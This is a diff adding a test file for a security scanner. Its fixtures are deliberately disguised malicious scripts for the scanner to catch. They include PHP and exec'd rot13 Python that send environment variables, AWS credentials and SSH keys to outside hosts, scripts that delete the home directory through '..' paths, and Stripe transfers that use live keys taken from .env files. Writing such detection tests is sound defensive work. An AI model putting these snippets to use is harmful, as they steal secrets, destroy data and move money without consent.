@@ -1,0 +1,157 @@
+"""flow22: code payloads read by what the construct does, not by its disguise.
+
+(a) PHP as a first-class script language (env / credential files sent out through curl, sockets or a
+stream context, with computed URLs and indirect calls); (b) a delete whose path climbs out with ``..``
+is read as the folder it resolves to; (c) money moved through a payments API with a live key the script
+selected or hunted out of .env files, without asking; (d) decoded source run by eval/exec gets the
+categories of what it does. Each catch has a near-miss that must stay clean.
+"""
+
+from __future__ import annotations
+
+import base64
+import codecs
+
+from tests.scan.gap_helpers import scan
+
+
+def _bad(r):
+    return r.grade in "CDF"
+
+
+def _cats(r, path=None):
+    return {f.category for f in r.findings if f.grades and (path is None or f.file == path)}
+
+
+# (a) PHP ---------------------------------------------------------------------------------------------
+
+def test_php_env_and_aws_file_posted_with_curl_to_rot13_host():
+    php = ("<?php\n"
+           "function collect(): array {\n"
+           "    $home = $_SERVER['HOME'] ?? getenv('HOME');\n"
+           "    $o = ['vars' => $_ENV + getenv()];\n"
+           "    foreach (['.aws/credentials', '.ssh/id_rsa', '.npmrc'] as $rel) {\n"
+           "        if (is_file(\"$home/$rel\")) { $o[$rel] = file_get_contents(\"$home/$rel\"); }\n"
+           "    }\n"
+           "    return $o;\n"
+           "}\n"
+           "$endpoint = str_rot13('uggcf://gryrzrgel.cucfgna-urycre.qri/vatrfg');\n"
+           "$ch = curl_init($endpoint);\n"
+           "curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(collect()));\n"
+           "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n"
+           "curl_exec($ch);\n"
+           "echo \"analysis complete\\n\";\n")
+    r = scan({"bin/analyse.php": php})
+    assert _bad(r), r.findings
+    assert {"secrets", "exfiltration"} & _cats(r)
+
+
+def test_php_environment_written_to_socket_host_from_pieces():
+    php = ("<?php\n"
+           "$h = implode('.', ['sync', 'phpcs-rules', 'io']);\n"
+           "$fp = @fsockopen('ssl://' . $h, 443, $errno, $errstr, 3);\n"
+           "if ($fp) {\n"
+           "    $payload = base64_encode(gzcompress(serialize(getenv())));\n"
+           "    fwrite($fp, \"POST /r HTTP/1.1\\r\\nHost: $h\\r\\nContent-Length: \" . strlen($payload) . \"\\r\\n\\r\\n\" . $payload);\n"
+           "    fclose($fp);\n"
+           "}\n")
+    r = scan({"tools/lint.php": php})
+    assert _bad(r), r.findings
+
+
+def test_php_near_miss_reads_lockfile_and_queries_packagist_stays_clean():
+    php = ("<?php\n"
+           "$lock = json_decode(file_get_contents($argv[1] ?? 'composer.lock'), true);\n"
+           "foreach ($lock['packages'] as $p) {\n"
+           "    $meta = json_decode(file_get_contents('https://repo.packagist.org/p2/' . $p['name'] . '.json'), true);\n"
+           "    $token = getenv('GITHUB_TOKEN');\n"
+           "    printf(\"%s %s %s\\n\", $p['name'], $p['version'], $token ? 'auth' : 'anon');\n"
+           "}\n")
+    r = scan({"scripts/outdated.php": php})
+    assert r.grade in "AB", r.findings
+
+
+# (b) paths that climb out with .. --------------------------------------------------------------------
+
+def test_python_rmtree_of_home_reached_through_dotdot():
+    py = ("import os, shutil\n"
+          "base = os.path.join(os.path.expanduser('~'), '.local', 'share', '..', '..')\n"
+          "for name in os.listdir(base):\n"
+          "    shutil.rmtree(os.path.join(base, name), ignore_errors=True)\n"
+          "print('freed')\n")
+    r = scan({"scripts/sweep.py": py})
+    assert _bad(r), r.findings
+    assert "destructive" in _cats(r)
+
+
+def test_node_rmsync_of_home_reached_through_dotdot():
+    js = ("const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+          "const stale = path.join(os.homedir(), '.npm', '_cacache', '..', '..');\n"
+          "for (const e of fs.readdirSync(stale)) {\n"
+          "  fs.rmSync(path.join(stale, e), { recursive: true, force: true });\n"
+          "}\n")
+    r = scan({"scripts/prune.js": js})
+    assert _bad(r), r.findings
+
+
+def test_dotdot_that_stays_inside_the_cache_stays_clean():
+    sh = ("#!/bin/sh\n"
+          "rm -rf \"$HOME/.cache/pip/../pip-tools\"\n"
+          "rm -rf \"$HOME/.cache/yarn/v6/../v5\"\n")
+    py = ("import shutil, pathlib\n"
+          "shutil.rmtree(pathlib.Path.home() / '.cache' / 'poetry' / '..' / 'pypoetry', ignore_errors=True)\n")
+    r = scan({"scripts/clean.sh": sh, "scripts/clean.py": py})
+    assert r.grade in "AB", r.findings
+
+
+# (c) money moved with a live key ----------------------------------------------------------------------
+
+def test_node_transfer_with_live_key_to_fixed_account():
+    js = ("const key = [process.env.STRIPE_KEY, process.env.STRIPE_LIVE_SECRET]\n"
+          "  .filter(Boolean).find(k => k.startsWith('sk_live_')) || process.env.STRIPE_KEY;\n"
+          "const body = new URLSearchParams({ amount: '375000', currency: 'usd', destination: 'acct_1Nx9QzKp4eRt7Y' });\n"
+          "fetch('https://api.stripe.com/v1/transfers', {\n"
+          "  method: 'POST', headers: { Authorization: `Bearer ${key}` }, body,\n"
+          "}).then(r => r.json()).then(j => console.log('balance check ok', j.id));\n")
+    r = scan({"scripts/verify.js": js})
+    assert _bad(r), r.findings
+    assert "excessive-agency" in _cats(r)
+
+
+def test_python_sdk_payout_with_key_hunted_from_dotenv():
+    py = ("import pathlib, stripe\n"
+          "def live_key():\n"
+          "    for f in pathlib.Path('.').glob('.env*'):\n"
+          "        for line in f.read_text().splitlines():\n"
+          "            if 'sk_live' in line:\n"
+          "                return line.split('=', 1)[1].strip()\n"
+          "stripe.api_key = live_key()\n"
+          "stripe.Transfer.create(amount=120000, currency='eur', destination='acct_1Ab2Cd3Ef4Gh5I')\n"
+          "print('reconciled')\n")
+    r = scan({"scripts/reconcile.py": py})
+    assert _bad(r), r.findings
+
+
+def test_test_mode_only_transfer_stays_clean():
+    py = ("import os, sys, stripe\n"
+          "key = os.environ.get('STRIPE_SECRET_KEY', '')\n"
+          "if not key.startswith('sk_test_'):\n"
+          "    sys.exit('refusing: this check only runs with a test-mode key')\n"
+          "stripe.api_key = key\n"
+          "stripe.Transfer.create(amount=100, currency='usd', destination=sys.argv[1])\n")
+    r = scan({"scripts/check.py": py})
+    assert r.grade in "AB", r.findings
+
+
+# (d) decoded source run ------------------------------------------------------------------------------
+
+def test_python_rot13_source_exec_gets_secrets_and_exfiltration():
+    src = ("import os, urllib.request\n"
+           "d = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+           "urllib.request.urlopen('https://cfg.pyaudit-mirror.net/s', data=d.encode())\n")
+    py = ("import codecs\n"
+          f"PAYLOAD = {codecs.encode(src, 'rot13')!r}\n"
+          "exec(codecs.decode(PAYLOAD, 'rot13'))\n")
+    r = scan({"scripts/audit.py": py})
+    assert _bad(r), r.findings
+    assert {"secrets", "exfiltration"} & _cats(r), _cats(r)
